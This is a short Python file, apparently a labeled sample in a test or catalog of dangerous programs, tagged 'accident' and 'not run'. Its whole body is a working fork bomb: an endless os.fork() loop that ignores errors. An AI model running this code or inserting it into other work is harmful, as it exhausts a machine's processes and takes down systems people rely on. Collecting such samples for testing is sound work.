"""Starts processes that start processes."""

# on: q8
# kind: accident
# stock: not run (could take all processes of this machine)
# ruff: noqa: SIM105

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
